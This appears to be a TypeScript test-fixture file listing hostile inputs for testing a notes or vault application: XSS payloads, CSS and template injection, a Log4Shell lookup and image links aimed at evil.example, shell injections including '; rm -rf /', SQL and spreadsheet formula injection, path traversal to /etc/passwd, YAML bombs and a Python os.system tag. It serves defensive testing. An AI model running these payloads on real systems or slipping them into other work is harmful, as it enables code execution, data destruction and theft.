/**
 * What a note may hold when somebody means harm, or a program has gone wrong: short texts, by what
 * they try. All tests of hostile vaults use these, in Node and in the browser.
 */

/** What {@link MARKUP} sets on the window when it runs. */
export const CANARY = '__ran';

const RUN = `window.${CANARY}=1`;

/** HTML and addresses that run when they are put into a page as such. */
export const MARKUP: readonly string[] = [
	`<script>${RUN}</script>`,
	`<img src=x onerror="${RUN}">`,
	`<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x></svg>`,
	`<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
	`<object data="data:text/html,<script>parent.${CANARY}=1</script>"></object>`,
	`"><details open ontoggle=${RUN}>`,
	`' autofocus onfocus='${RUN}`,
	`<a href="javascript:${RUN}">443</a>`,
	`<math><mtext><style><img title="</style><img src onerror=${RUN}>">`,
	`<base href="javascript:${RUN}//">`,
	`<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}//443`,
	`java\tscript:${RUN}`,
	`data:text/html,<script>${RUN}</script>`,
	`data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==`,
	`vbscript:${RUN}`,
	`\u0001javascript:${RUN}`,
	`file:///etc/passwd`,
	`//evil.example/x`,
	`https://evil.example:443/?q=1`,
	`user:pass@evil.example`,
];

/** CSS that would reach beyond the place where it is written. */
export const STYLES: readonly string[] = [
	'</style><style>body{display:none}',
	'} body{display:none} .x{',
	'url(https://evil.example/a.png)',
	'red;background:url(//evil.example)',
	'expression(alert(1))',
	'@import "https://evil.example/a.css";',
	'1;position:fixed;inset:0;z-index:99999',
	'var(--x, url(data:image/png,x))',
	'\\3c/style\\3e',
];

/** Names that objects have by themselves. */
export const KEYS: readonly string[] = [
	'__proto__',
	'constructor',
	'prototype',
	'toString',
	'hasOwnProperty',
	'__defineGetter__',
	'valueOf',
	'length',
	'then',
];

/** Letters that turn, hide or swallow their neighbours, each named by its number. */
const RLO = '\u202e';
const RLI = '\u2067';

/** Texts that show otherwise than they are stored, or that no program should have stored. */
export const LETTERS: readonly string[] = [
	`${RLO}gnp.exe${RLO}${RLO}`,
	`${RLI}מסד נתונים`,
	`\u202d443\u202e344\u202c`,
	`\u2066\u2066\u2066\u2066 unclosed`,
	'שרת 443 דואר',
	'\u200b4\u200b4\u200b3\u200b',
	'\u200d\u200c\ufeff443',
	'4\u00ad43',
	'٤٤٣',
	'４４３',
	'𝟜𝟜𝟛',
	'e' + '\u0301'.repeat(400),
	'\u0000',
	'443\u0000/tcp',
	'\ud800',
	'\udc00443',
	'443\ud83d',
	'\u2028\u2029',
	'\r',
	'443\r53\r\n22',
	'\u0007\u001b[31m\u001b]8;;https://evil.example\u0007',
	'\ufff9\ufffa\ufffb',
	'\u{e0041}\u{e0042}\u{e007f}',
	'İıſK',
	'ﷺ'.repeat(20),
	'👩‍👩‍👧‍👦'.repeat(10),
];

/** What other programs would take for their own syntax. */
export const SYNTAX: readonly string[] = [
	'{{7*7}}',
	'${7*7}',
	'${jndi:ldap://evil.example/a}',
	'<%= 7*7 %>',
	'#{7*7}',
	'$(touch /tmp/x)',
	'`touch /tmp/x`',
	'; rm -rf /',
	"' OR 1=1 --",
	'=HYPERLINK("https://evil.example")',
	'@SUM(1+9)*cmd|" /C calc"!A0',
	'[443](javascript:alert(1))',
	'![x](https://evil.example/a.png)',
	'[[../../../etc/passwd|443]]',
	'![[443#^x]]',
	'[x]: javascript:alert(1) "443"',
	'%%443%%',
	'$$\\def\\x{\\x\\x}\\x$$',
	'~~~port\n443',
	'```port\n443\n```',
	'`port:443`',
	'> ```port',
	'---\nhost: x\n---',
	'<!-- 443 -->',
	'<![CDATA[443]]>',
	'<!DOCTYPE x [<!ENTITY a "b"><!ENTITY b "&a;&a;">]><x>&b;</x>',
	'&lt;script&gt;&#x3c;script&#62;',
	'%3Cscript%3E',
	'\\u003cscript\\u003e',
	'../../../../etc/passwd',
	'C:\\Windows\\..\\..\\x',
	'|443|\n|---|',
	'\\\\\\\\',
];

/** YAML that expands, refers to itself, makes objects, or is none. */
export const YAML: readonly string[] = [
	[
		'a: &a [443, 443, 443, 443, 443, 443, 443, 443, 443]',
		...'bcdefghi'
			.split('')
			.map((key, at) => `${key}: &${key} [${`*${'abcdefgh'[at]},`.repeat(9)}]`),
		'ports: *i',
	].join('\n'),
	'host: &x {host: *x}\nports: *x',
	'ports: *nowhere',
	'<<: *a',
	'&a &b &c',
	'!!js/function "function(){}"',
	'ports: !!python/object/apply:os.system ["x"]',
	'? 443\n: 53',
	'ports: |\n  443',
	'ports: >-\n  443',
	'ports: [443',
	'ports: ]443[',
	'ports:\n\t- 443',
	'"unclosed: 443',
	"'unclosed: 443",
	'host: "a\\',
	'%YAML 1.2\n---\n...\n---',
	'- - - - - 443',
	'host:\nhost: a\nhost: b',
	': 443',
	':::::',
	'：443：53：',
];

/** Numbers that are none, or too large for what counts them. */
export const NUMBERS: readonly string[] = [
	'65536',
	'99999999999999999999',
	'9'.repeat(400),
	'0'.repeat(400) + '443',
	'-1',
	'-0',
	'1e309',
	'NaN',
	'Infinity',
	'0x1bb',
	'443.0',
	'443n',
	'1_000',
	'0-65535',
	'1-65535/tcp+udp',
	'65535-0',
	'0-0',
	'443-443-443',
	Array(200).fill('0-65535').join(','),
	'443/tcp'.repeat(50),
	'443/' + 'tcp+'.repeat(200),
	'/',
	'443/',
	':443',
	'443:',
	'[::1]:99999',
	'[' + ':'.repeat(300) + ']:1',
	'0.0.0.0.0:80',
	'999.999.999.999:443',
	'::ffff:999.1.1.1',
];

/** Deep, long and empty. */
export const SHAPES: readonly string[] = [
	'',
	' ',
	'\n',
	'\t\t\t',
	'a'.repeat(5000),
	'数'.repeat(3000),
	'-'.repeat(3000),
	`${'['.repeat(3000)}443${']'.repeat(3000)}`,
	`${'{"a":'.repeat(3000)}443${'}'.repeat(3000)}`,
	`${'('.repeat(3000)}443`,
	`${'> '.repeat(500)}443`,
	`${'  '.repeat(500)}- 443`,
	'<a>'.repeat(1500),
	'"'.repeat(3001),
	"'".repeat(3001),
	'`'.repeat(3001),
	'\\'.repeat(3001),
	':'.repeat(3000),
	',\n'.repeat(1500),
];

/** All of them. */
export const HOSTILE: readonly string[] = [
	...MARKUP,
	...STYLES,
	...KEYS,
	...LETTERS,
	...SYNTAX,
	...YAML,
	...NUMBERS,
	...SHAPES,
];

/** What can stand in one line: for names, and for what a line is built around. */
export const HOSTILE_LINES: readonly string[] = [
	...new Set(HOSTILE.map((text) => text.replace(/[\r\n\u2028\u2029]+/g, ' '))),
];
